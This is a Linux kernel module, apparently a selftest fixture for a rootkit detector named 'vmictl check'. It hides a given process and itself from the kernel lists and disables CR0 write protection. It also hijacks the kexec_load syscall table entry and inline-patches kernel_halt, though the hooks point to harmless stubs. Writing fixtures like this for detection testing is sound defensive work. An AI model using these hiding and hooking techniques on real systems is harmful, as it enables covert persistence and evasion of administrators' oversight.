// SPDX-License-Identifier: GPL-2.0
/*
 * What "vmictl check" must find, for a guest of the selftests and no other system:
 * it takes itself and one process out of the lists that show them, and puts itself
 * before a system call and before a function. It cannot be unloaded.
 */
#include <asm/cacheflush.h>
#include <asm/special_insns.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/syscalls.h>

#define JUMP	0xe9	/* with 4 bytes of distance */

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "process to hide");

typedef unsigned long (*lookup_fn)(const char *name);

/* not exported: a probe is set there, which says where it was set */
static lookup_fn find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_fn fn;

	if (register_kprobe(&kp))
		return NULL;
	fn = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return fn;
}

/* Constants and code are read-only, but for a CPU that is told not to mind. */
static void write_anyway(void *to, const void *from, size_t len)
{
	unsigned long cr0 = read_cr0(), flags;

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	memcpy(to, from, len);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	local_irq_restore(flags);
}

static asmlinkage long false_call(const struct pt_regs *regs)
{
	return -ENOSYS;
}

static void noinline false_function(void)
{
	/* never run: nothing in the selftests' guest calls what jumps here */
	barrier();
}

static int __init rootkit_init(void)
{
	lookup_fn lookup = find_lookup();
	void *call = false_call;
	struct task_struct *task;
	unsigned long *table;
	u8 jump[5] = { JUMP };
	u8 *function;
	s32 distance;

	if (!lookup)
		return -ENOENT;
	table = (unsigned long *)lookup("sys_call_table");
	function = (u8 *)lookup("kernel_halt");
	if (!table || !function)
		return -ENOENT;
	write_anyway(&table[__NR_kexec_load], &call, sizeof(call));
	distance = (u8 *)false_function - (function + sizeof(jump));
	memcpy(jump + 1, &distance, sizeof(distance));
	write_anyway(function, jump, sizeof(jump));

	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		list_del_rcu(&task->tasks);
	rcu_read_unlock();
	list_del_rcu(&THIS_MODULE->list);
	return task ? 0 : -ESRCH;
}
module_init(rootkit_init);

MODULE_DESCRIPTION("What vmictl check must find");
MODULE_LICENSE("GPL");
